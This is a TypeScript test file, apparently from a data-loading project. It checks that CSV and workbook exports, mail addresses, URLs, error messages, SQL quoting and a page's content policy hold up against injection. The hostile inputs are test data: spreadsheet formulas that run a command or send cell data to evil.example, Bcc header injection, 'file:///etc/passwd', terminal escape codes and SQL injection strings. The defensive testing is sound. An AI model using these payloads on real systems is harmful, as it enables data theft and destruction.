import { parse as parseCsv } from "csv-parse/sync";
import { readXlsx } from "hucre/xlsx";
import { describe, expect, it } from "vitest";
import { explain } from "../../loaders/command.js";
import { openMailer, isAddress } from "../../loaders/outreach/mailer.js";
import { isSafeAddress } from "../../loaders/outreach/safeAddress.js";
import { csvCell } from "../../loaders/sources/rejectsCsv.js";
import { UserError } from "../../loaders/userError.js";
import { contentPolicy } from "../../loaders/publish/policy.js";
import { csvText } from "../../src/components/csv.js";
import { writeWorkbook } from "../../src/components/workbook/writeWorkbook.js";
import { connect } from "../loaders/sources/staging.js";
import { countAttacks } from "../verify/countAttacks.js";
import { quoteIdentifier, quoteLiteral } from "../../loaders/sqlText.js";

/** What a spreadsheet would run, were it to start a cell. */
const formulas = {
  "a command": "=cmd|'/C calc'!A0",
  "a link that carries data away": '=HYPERLINK("https://evil.example/?"&A1,"open")',
  "a plus": "+1+1",
  "a minus": "-1+1",
  "an at sign": "@SUM(1)",
  "a tab first": "\t=1+1",
  "a carriage return first": "\r=1+1",
  "a line feed first": "\n=1+1",
  "blanks first": "  =1+1",
  "a full-width equals sign": "＝1+1",
  "a full-width plus": "＋1",
  "a full-width at sign": "＠SUM(1)",
  "a quote that would end the cell": '",=1+1,"',
  "a line end that would start a new row": "x\r\n=1+1",
};
const runs = /^\s*[=+\-@＝＋－＠]/;

describe("a formula in a text", () => {
  countAttacks("formulas in a text: download, rejects, CRM, workbook");

  describe.each(Object.entries(formulas))("%s", (_, typed) => {
    it("is text in the page's download", () => {
      const [[cell] = [], ...more] = parseCsv(csvText([{ label: "n", value: (row: string) => row }], [typed]), {
        bom: true,
        from: 2,
      }) as string[][];
      expect(cell).not.toMatch(runs);
      expect(more).toEqual([]);
    });

    it("is text in the CSV of rejects and of the CRM", () => {
      const [[cell, next] = [], ...more] = parseCsv(`${csvCell(typed)},1\r\n`) as string[][];
      expect(cell).not.toMatch(runs);
      expect([next, more]).toEqual(["1", []]);
    });

    it("is text in the workbook", async () => {
      const bytes = await writeWorkbook([
        { name: "s", widths: [10], rows: [[{ kind: "text", text: typed }]], names: {} },
      ]);
      const { sheets } = await readXlsx(bytes);
      expect(sheets[0]!.cells?.get("0,0")?.formula).toBeUndefined();
      expect(String(sheets[0]!.rows[0]![0])).not.toMatch(runs);
    });
  });
});

describe("an address", () => {
  countAttacks("addresses that hold more than an address, or would send a secret in plain text");
  it.each([
    "a@b.example\r\nBcc: x@evil.example",
    "a@b.example,x@evil.example",
    "a@b.example;x@evil.example",
    "A <a@b.example>",
    "a@b.example\0",
    '"a b"@c.example',
    "a@b.example x",
  ])("with more than an address in it is refused: %j", (typed) => {
    expect(isAddress(typed)).toBe(false);
  });

  it.each([
    "http://chat.example/hook",
    "ftp://chat.example",
    "file:///etc/passwd",
    "javascript:alert(1)",
    "http://127.0.0.1.evil.example/",
    "http://localhost@evil.example/",
    "//evil.example",
    "",
  ])("that would carry a secret in plain text is refused: %s", (url) => {
    expect(isSafeAddress(url)).toBe(false);
  });

  it.each(["https://chat.example/hook", "http://127.0.0.1:9/x", "http://[::1]:9/x", "http://localhost:9"])(
    "that does not is taken: %s",
    (url) => {
      expect(isSafeAddress(url)).toBe(true);
    },
  );

  it("of a sender with a header in it is refused, and no setting is shown", () => {
    const env = {
      HOLDFAST_SMTP_URL: "smtp://u:hunter2@mail.example",
      HOLDFAST_MAIL_FROM: "a@b.example\r\nBcc: x@evil.example",
    };
    expect(() => openMailer(env)).toThrow(/HOLDFAST_MAIL_FROM/);
    expect(() => openMailer({ ...env, HOLDFAST_SMTP_URL: "smtp://u:hunter2@" })).toThrow(/^(?!.*hunter2)/);
  });
});

describe("a message", () => {
  countAttacks("control characters in messages");
  it("repeats nothing that steers a terminal", () => {
    const typed = "\u001b]0;owned\u0007\u001b[2J\u202Ecsv.exe\r";

    expect(explain(new UserError({ what: typed, where: typed, allowed: typed, todo: typed }))).not.toMatch(
      /[\u0000-\u0008\u000b-\u001f\u202e]/,
    );
  });
});

describe("a name or value in SQL", () => {
  countAttacks("SQL in names and values, as identifiers and literals");
  it.each([`'; drop table t; --`, `"; drop table t; --`, `x' or '1'='1`, `\\'`, `$1`, `?`, `/* */`, `a""b''c`])(
    "stays what it is: %s",
    async (typed) => {
      const connection = await connect();
      await connection.run(
        `create table t (${quoteIdentifier(typed)} varchar); insert into t values (${quoteLiteral(typed)})`,
      );
      const found = await connection.runAndReadAll("from t");
      expect([found.columnNames(), found.getRows()]).toEqual([[typed], [[typed]]]);
    },
  );
});

describe("the policy of a page", () => {
  countAttacks("policy of a page");
  it("allows no script but the page's own, no eval, no frame, no form, no other base", () => {
    const policy = contentPolicy("<script>a()</script><script src=x></script>");
    expect(policy).toMatch(
      /default-src 'none'.*script-src 'self' 'sha256-[^']+';.*base-uri 'none'; form-action 'none'/,
    );
    expect(policy).not.toMatch(/unsafe-eval|script-src[^;]*unsafe-inline|https?:|\*/);
  });
});
